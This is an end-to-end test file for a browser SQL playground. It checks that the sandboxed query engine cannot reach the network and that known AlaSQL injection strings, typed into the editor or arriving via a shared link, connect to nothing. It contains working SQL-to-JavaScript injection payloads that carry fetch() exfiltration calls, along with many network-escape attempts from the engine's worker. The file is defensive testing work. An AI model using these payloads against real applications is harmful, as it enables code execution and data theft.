import { createServer, type Server } from 'node:net';
import { compressToEncodedURIComponent } from 'lz-string';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Frame, Page, Worker } from 'playwright-core';
import { useBrowser, type Visit } from './support/browser';
import { fakeRequests, resetFake } from './support/fakeGitHub';
import {
  alertText,
  editorText,
  resultStatus,
  runQuery,
  setSql,
  useFakeApi,
  waitForPlayground,
} from './support/playground';

const browser = useBrowser();

/**
 * A loopback listener that must receive nothing: any TCP connection at all (HTTP, WebSocket,
 * EventSource, a beacon) counts, so no protocol can slip past it.
 */
let listener: Server;
let connections = 0;
let listenUrl = '';

beforeAll(async () => {
  listener = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  if (typeof address !== 'object' || address === null) throw new Error('listener has no port');
  listenUrl = `http://127.0.0.1:${String(address.port)}`;
});
afterAll(async () => {
  await new Promise((resolve) => listener.close(resolve));
});

function sandboxFrame(page: Page): Frame | undefined {
  return page.frames().find((f) => /\/engine\/sandbox\.[0-9a-f]+\.html$/.test(f.url()));
}

/** Opens the playground and waits for the engine's sandbox frame and its worker. */
async function openEngine(): Promise<{ visit: Visit; frame: Frame; worker: Worker }> {
  const visit = await browser.open('/playground');
  await waitForPlayground(visit.page);
  await expect.poll(() => sandboxFrame(visit.page) !== undefined, { timeout: 20_000 }).toBe(true);
  const frame = sandboxFrame(visit.page);
  if (!frame) throw new Error('no sandbox frame');
  await expect.poll(() => visit.page.workers().some((w) => w.url().startsWith('blob:'))).toBe(true);
  const worker = visit.page.workers().find((w) => w.url().startsWith('blob:'));
  if (!worker) throw new Error('no engine worker');
  return { visit, frame, worker };
}

/** What each attempt to reach `url` did: 'blocked' (threw or was refused) or what it got. */
type Attempts = Record<string, string>;

/**
 * Every way a script in a worker might reach the network, each tried against `url`. Runs in the
 * engine's worker (serialized by Playwright, so it may use only its argument).
 */
async function tryEverythingInWorker(url: string): Promise<Attempts> {
  const out: Record<string, string> = {};
  const settle = async (name: string, attempt: () => Promise<unknown>): Promise<void> => {
    try {
      const r = await Promise.race([
        attempt(),
        new Promise((resolve) => {
          setTimeout(() => {
            resolve('timeout');
          }, 2_000);
        }),
      ]);
      out[name] = r === 'timeout' ? 'timeout' : 'reached';
    } catch {
      out[name] = 'blocked';
    }
  };
  await settle('fetch', async () => {
    await fetch(`${url}/fetch?rows=secret`);
  });
  await settle('fetch no-cors', () => fetch(`${url}/no-cors`, { mode: 'no-cors' }));
  await settle('import()', () => import(/* webpackIgnore: true */ `${url}/import.js`));
  await settle(
    'XMLHttpRequest',
    () =>
      new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = resolve;
        xhr.onerror = reject;
        xhr.open('GET', `${url}/xhr`);
        xhr.send();
      }),
  );
  await settle(
    'WebSocket',
    () =>
      new Promise((resolve, reject) => {
        const ws = new WebSocket(url.replace('http:', 'ws:') + '/ws');
        ws.onopen = resolve;
        ws.onerror = reject;
        ws.onclose = reject;
      }),
  );
  await settle(
    'EventSource',
    () =>
      new Promise((resolve, reject) => {
        const es = new EventSource(`${url}/events`);
        es.onopen = resolve;
        es.onerror = () => {
          es.close();
          reject(new Error('error'));
        };
      }),
  );
  const scope = self as unknown as { importScripts?: (u: string) => void };
  await settle('importScripts', () => Promise.resolve(scope.importScripts?.(`${url}/script.js`)));
  await settle(
    'nested blob worker',
    () =>
      new Promise((resolve, reject) => {
        const code = `fetch(${JSON.stringify(`${url}/nested`)}).then(() => postMessage('reached'), () => postMessage('blocked'))`;
        const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        w.onmessage = (e: MessageEvent<string>) => {
          if (e.data === 'reached') resolve(e.data);
          else reject(new Error(e.data));
        };
        w.onerror = reject;
      }),
  );
  await settle(
    'nested worker from a URL',
    () =>
      new Promise((resolve, reject) => {
        const w = new Worker(`${url}/worker.js`);
        w.onmessage = resolve;
        w.onerror = reject;
      }),
  );
  await settle('beacon', () => {
    const nav = navigator as unknown as { sendBeacon?: (u: string, d: string) => boolean };
    if (!nav.sendBeacon) return Promise.reject(new Error('no sendBeacon in a worker'));
    return nav.sendBeacon(`${url}/beacon`, 'rows') ? Promise.resolve() : Promise.reject(new Error('refused'));
  });
  return out;
}

/** The console errors a test expects (the policy refusing what it tried), and only those. */
function takeCspRefusals(visit: Visit): string[] {
  const taken = visit.errors.splice(0);
  const other = taken.filter((e) => !/Content Security Policy|Refused to|violates|blocked/i.test(e));
  visit.errors.push(...other);
  return taken;
}

describe('containment: the engine runs where no network is possible', () => {
  it('refuses every way to the network from the engine worker, and from its frame', async () => {
    const { visit, frame, worker } = await openEngine();
    const before = connections;

    const fromWorker = await worker.evaluate(tryEverythingInWorker, listenUrl);
    expect(Object.keys(fromWorker)).toHaveLength(10);
    for (const [how, outcome] of Object.entries(fromWorker)) expect(outcome, how).toBe('blocked');

    // The frame's own document holds the same policy (its worker inherits it) and an opaque origin.
    const fromFrame = await frame.evaluate(async (url) => {
      const out: Record<string, string> = {};
      out.origin = origin;
      try {
        await fetch(`${url}/frame-fetch`);
        out.fetch = 'reached';
      } catch {
        out.fetch = 'blocked';
      }
      // sendBeacon only queues (it answers true); the listener below shows whether it arrived.
      navigator.sendBeacon(`${url}/frame-beacon`, 'rows');
      const img = new Image();
      img.src = `${url}/frame-img`;
      document.body.append(img);
      try {
        out.storage = String(localStorage.length);
      } catch {
        out.storage = 'blocked';
      }
      try {
        out.parent = parent.document.title;
      } catch {
        out.parent = 'blocked';
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      return out;
    }, listenUrl);
    expect(fromFrame).toEqual({
      origin: 'null',
      fetch: 'blocked',
      storage: 'blocked',
      parent: 'blocked',
    });

    await visit.page.waitForTimeout(500);
    expect(connections - before, 'connections to the loopback listener').toBe(0);
    expect(visit.requests.filter((u) => u.startsWith(listenUrl))).toEqual([]);
    expect(takeCspRefusals(visit).length).toBeGreaterThan(0);
  });

  it('gives the frame its own policy and an opaque origin (the page keeps its own: csp.e2e.ts)', async () => {
    const { visit, frame } = await openEngine();
    const framePolicy = await frame.evaluate(
      () =>
        document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    );
    expect(framePolicy).toContain("connect-src 'none'");
    expect(framePolicy).toContain("default-src 'none'");
    expect(framePolicy).toContain('worker-src blob:');
    const sandbox = await visit.page
      .locator('iframe[title^="Query engine"]')
      .evaluate((f) => f.getAttribute('sandbox'));
    expect(sandbox).toBe('allow-scripts');
    takeCspRefusals(visit);
  });

  it('leaves code in the engine no hold on its port: the prototypes are frozen once it runs', async () => {
    const { visit, worker } = await openEngine();
    const { page } = visit;
    await setSql(page, 'SELECT 6 * 7 AS answer');
    await runQuery(page);
    const hooked = await worker.evaluate(() => {
      const proto = MessagePort.prototype as unknown as { postMessage: unknown };
      const original = proto.postMessage;
      try {
        proto.postMessage = () => undefined;
      } catch {
        // strict-mode assignment to a frozen object throws; either way nothing changes
      }
      return {
        frozen: [MessagePort.prototype, EventTarget.prototype, Object.prototype].every((p) =>
          Object.isFrozen(p),
        ),
        same: proto.postMessage === original,
      };
    });
    expect(hooked).toEqual({ frozen: true, same: true });
    await setSql(page, 'SELECT 40 + 2 AS answer');
    await runQuery(page);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^1 row/);
    expect(await page.getByRole('cell', { name: '42' }).count()).toBe(1);
  });

  it('restarts a crashed engine for the next query, keeping the SQL, the result and the rows', async () => {
    const { visit, worker } = await openEngine();
    const { page } = visit;
    const sql =
      "SELECT COUNT(*) AS n FROM github.packages.org_versions WHERE org = 'acme' AND package_name = 'web/frontend' AND package_type = 'container'";
    await setSql(page, sql);
    await runQuery(page);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^1 row/);
    const fetched = visit.requests.length;
    // An uncaught error in the engine ends its worker; the frame reports it and the page starts
    // another, sending it the rows it already has.
    await worker.evaluate(() => {
      setTimeout(() => {
        throw new Error('engine crash');
      }, 0);
    });
    await expect
      .poll(() => page.workers().filter((w) => w.url().startsWith('blob:') && w !== worker).length)
      .toBe(1);
    expect(await page.getByRole('cell', { name: '249' }).count()).toBe(1);
    expect(await alertText(page)).toMatch(/query engine stopped unexpectedly .* restarted/);
    await runQuery(page);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^1 row/);
    expect(await page.getByRole('cell', { name: '249' }).count()).toBe(1);
    expect(
      visit.requests.slice(fetched).filter((u) => !u.startsWith('blob:') && !u.includes('/engine/sandbox.')),
    ).toEqual([]);
    takeCspRefusals(visit);
    visit.errors.splice(0, visit.errors.length, ...visit.errors.filter((e) => !e.includes('engine crash')));
  });
});

const WHERE = "WHERE org = 'acme' AND package_name = 'web/frontend' AND package_type = 'container'";
const FROM = `FROM github.packages.org_versions ${WHERE}`;

describe('containment: the known injections, typed into the editor, reach nothing', () => {
  /** What each injection would run: a request to the loopback listener (backticks: no SQL quote). */
  const exfil = (path: string): string => `fetch(\`${listenUrl}/${path}\`)`;

  it.each<[string, (e: string) => string, RegExp | number]>([
    [
      'the IN-list cache key',
      (e) => `SELECT id, name ${FROM} AND name IN ('constructor"]&&${e}||alasql.sets["constructor')`,
      0,
    ],
    ['NOT IN', (e) => `SELECT id ${FROM} AND name NOT IN ('x"]||${e}||alasql.sets["x', 'y')`, 249],
    ['a string in ORDER BY', (e) => `SELECT id ${FROM} ORDER BY ''']+${e}+['''`, /ORDER BY/],
    ['an unknown quoted name in ORDER BY', (e) => `SELECT id ${FROM} ORDER BY "']+${e}+['"`, /ORDER BY/],
    [
      'a tab in a GROUP BY string',
      (e) => `SELECT name || 'a\t${e}' AS k, COUNT(*) AS n ${FROM} GROUP BY name || 'a\t${e}'`,
      249,
    ],
  ])(
    '%s, from a shared link and one Run: runs as data or is refused, nothing connects',
    async (_, sqlFor, outcome) => {
      await resetFake();
      const sql = sqlFor(exfil('injected'));
      // As the attack arrives: a link that fills the editor, then the reader's token and one Run.
      const visit = await browser.open(`/playground#sql=${compressToEncodedURIComponent(sql)}`, {
        clipboard: true,
      });
      const { page } = visit;
      await waitForPlayground(page);
      await useFakeApi(page);
      const before = connections;
      await runQuery(page);
      if (typeof outcome === 'number') {
        await expect
          .poll(() => resultStatus(page).innerText())
          .toMatch(new RegExp(`^${String(outcome)} rows? from GitHub`));
      } else {
        expect(await alertText(page)).toMatch(outcome);
        expect(await fakeRequests()).toEqual([]);
      }
      await page.waitForTimeout(500);
      expect(connections - before).toBe(0);
      expect(visit.requests.filter((u) => u.startsWith(listenUrl))).toEqual([]);
      expect(await editorText(page)).toBe(sql);
    },
  );

  it('GROUP BY a prototype name pollutes nothing: the next SELECT * has exactly the documented columns', async () => {
    const visit = await browser.open('/playground');
    const { page } = visit;
    await waitForPlayground(page);
    await setSql(page, `SELECT COUNT(*) AS n ${FROM} GROUP BY '__proto__'`);
    await runQuery(page);
    expect(await alertText(page)).toMatch(/GROUP BY '__proto__' groups by a constant text/);
    await setSql(page, `SELECT * ${FROM} LIMIT 1`);
    await runQuery(page);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^1 row/);
    const headers = await page
      .getByRole('table', { name: 'Query results' })
      .getByRole('columnheader')
      .allInnerTexts();
    expect(headers).toHaveLength(11);
  });

  it('a query that builds text without bound ends in a clear error; the page stays usable', async () => {
    const visit = await browser.open('/playground');
    const { page } = visit;
    await waitForPlayground(page);
    let grow = 'name';
    for (let i = 0; i < 8; i++) grow = `REPLACE(${grow}, '0', '${'0'.repeat(40)}')`;
    await setSql(page, `SELECT ${grow} AS x ${FROM}`);
    await runQuery(page);
    expect(await alertText(page)).toMatch(/builds more than 64 MB of text/);
    await setSql(page, `SELECT COUNT(*) AS n ${FROM}`);
    await runQuery(page);
    await expect.poll(() => resultStatus(page).innerText()).toMatch(/^1 row/);
    expect(await page.getByRole('cell', { name: '249' }).count()).toBe(1);
  });
});
